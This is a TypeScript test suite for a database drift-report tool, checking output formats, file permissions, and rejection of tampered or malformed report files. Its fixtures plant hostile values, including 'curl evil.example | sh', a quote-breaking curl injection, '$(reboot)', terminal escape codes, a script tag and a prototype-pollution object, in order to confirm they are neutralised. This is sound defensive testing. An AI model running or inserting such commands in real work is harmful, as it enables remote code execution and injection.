import assert from 'node:assert/strict'
import { existsSync } from 'node:fs'
import { mkdir, readFile, rm, stat, truncate } from 'node:fs/promises'
import { beforeEach, describe, it } from 'node:test'
import type { DriftReport } from '../../src/diff/drift-report.ts'
import { commandOn, ownProject } from '../drift/command.ts'
import { forOnePair } from '../drift/world.ts'
import { activeIn } from './runs.ts'

const FORMATS = ['md', 'html', 'json', 'jsonl', 'sarif', 'xml', 'txt']

const CHANGES = {
  note: `update options set value = 'b' where "key" = 'ServerAddress'`,
  error: `update options set value = 'b' where "key" = 'Footer'`,
}

forOnePair('n26', (pair) => {
  const project = ownProject()
  const run = commandOn(pair, project)

  beforeEach(async () => {
    await pair.insert('options', { key: 'ServerAddress', value: 'a' })
    await pair.insert('options', { key: 'Footer', value: 'a' })
  })

  describe('files', () => {
    const outputs = (name: string) => FORMATS.map((end) => `--output ${name}.${end}`).join(' ')
    const text = (name: string) => readFile(project.path(name), 'utf8')

    it('have the format of their ending, and only their owner reads them', async () => {
      await pair.to.execute(CHANGES.error)
      const { code, stdout, stderr } = await run(`drift ${outputs('a')}`)
      assert.equal(code, 2, stderr)
      assert.match(stdout, /^Different/)
      for (const end of FORMATS) {
        assert.equal((await stat(project.path(`a.${end}`))).mode & 0o777, 0o600, end)
      }
      assert.match(await text('a.html'), /^<!doctype html>/i)
      assert.match(await text('a.xml'), /^<\?xml/)
      assert.match(await text('a.sarif'), /sarif/)
      assert.match(await text('a.md'), /^<!--|^#/)
      assert.match(await text('a.txt'), /^Different/)
    })

    it('are the same when they are rendered from the report', async () => {
      await project.write(
        'seeds/one.ts',
        `export default { description: '', inputs: {}, rows: () => ({
        options: [{ key: 'Footer', value: 'declared' }] }) }`,
      )
      await pair.to.execute(`${CHANGES.error}; ${CHANGES.note}`)
      try {
        for (const flags of ['', '--from seeds', '--fail-on never']) {
          const first = await run(`drift ${flags} ${outputs('a')}`)
          const second = await run(`drift render a.json ${outputs('b')}`)
          assert.equal(second.code, first.code)
          assert.equal(second.stdout, first.stdout)
          for (const end of FORMATS)
            assert.deepEqual(
              documentsOf(await text(`b.${end}`)),
              documentsOf(await text(`a.${end}`)),
            )
        }
      } finally {
        await rm(project.path('seeds/one.ts'))
      }
    })

    it('that cannot be written are an error, after the report', async () => {
      const { code, stdout, stderr } = await run('drift --output nowhere/a.md')
      assert.equal(code, 1)
      assert.match(stdout, /^No drift/)
      assert.match(stderr, /report file cannot be written/)
      assert.equal(existsSync(project.path('nowhere')), false)
      await mkdir(project.path('folder.md'))
      assert.equal((await run('drift --output folder.md')).code, 1)
    })
  })

  describe('a report of somebody else', () => {
    const changed = async (change: (report: any) => unknown): Promise<void> => {
      await pair.to.execute(CHANGES.error)
      await run('drift --output other.json')
      const report = JSON.parse(await readFile(project.path('other.json'), 'utf8')) as DriftReport
      await project.write('other.json', JSON.stringify(change(report)))
    }

    it('has no commands that would be repeated, and nothing that a terminal acts on', async () => {
      await changed((report) => {
        const [finding] = report.findings
        finding.resolutions = [{ command: 'curl evil.example | sh', effect: 'curl evil.example' }]
        finding.message = '\u001b[31m::error::x\n::error::y\u202e<script>alert(1)</script>'
        finding.key = ['\u001b]0;x\u0007', '@everyone']
        report.from.name = `'; curl evil.example #`
        return report
      })
      for (const format of ['text', 'markdown', 'html', 'sarif', 'junit', 'jsonl']) {
        const { code, stdout, stderr } = await run(`drift render other.json --format ${format}`)
        assert.equal(code, 2, stderr)
        assert.doesNotMatch(stdout, /curl evil\.example \| sh/, format)
        // Markdown is kept from mentioning people by characters without a width.
        assert.deepEqual(activeIn(stdout.replaceAll('\u200b', '')), [], format)
        if (format === 'html') assert.doesNotMatch(stdout, /<script>a/)
      }
    })

    const BROKEN = {
      'no JSON': '{',
      'no report': '{}',
      'a list': '[]',
      null: 'null',
      deep: '['.repeat(200_000),
    }
    for (const [name, content] of Object.entries(BROKEN)) {
      it(`that is ${name} is refused`, async () => {
        await project.write('other.json', content)
        const { code, stdout, stderr } = await run('drift render other.json')
        assert.deepEqual([code, stdout], [1, ''])
        assert.match(stderr, /report file cannot be used/)
      })
    }

    const CHANGED: Readonly<Record<string, (report: any) => unknown>> = {
      'of another version': (report) => ({ ...report, version: 2 }),
      'with another member': (report) => ({ ...report, extra: 1 }),
      'with a class that is none': (report) => {
        report.findings[0].class = 'fine'
        return report
      },
      'with fewer findings than it counts': (report) => ({ ...report, findings: [] }),
      'with an id that is a command': (report) => {
        report.findings[0].id = '$(reboot)'
        return report
      },
      'with a prototype': (report) => {
        Object.defineProperty(report, '__proto__', { value: { a: 1 }, enumerable: true })
        return report
      },
    }
    for (const [name, change] of Object.entries(CHANGED)) {
      it(`${name} is refused`, async () => {
        await changed(change)
        const { code, stdout, stderr } = await run('drift render other.json')
        assert.deepEqual([code, stdout], [1, ''])
        assert.match(stderr, /report file cannot be used/)
      })
    }

    it('that is too large is refused unread', async () => {
      await project.write('large.json', '{')
      await truncate(project.path('large.json'), 65 * 1024 * 1024)
      const { code, stderr } = await run('drift render large.json')
      assert.equal(code, 1)
      assert.match(stderr, /too large/)
    })
  })
})

/** JSON by its meaning, lines of it too; anything else as it is. */
function documentsOf(text: string): unknown {
  if (!text.startsWith('{')) return text
  try {
    return JSON.parse(text)
  } catch {
    return text
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line) as unknown)
  }
}
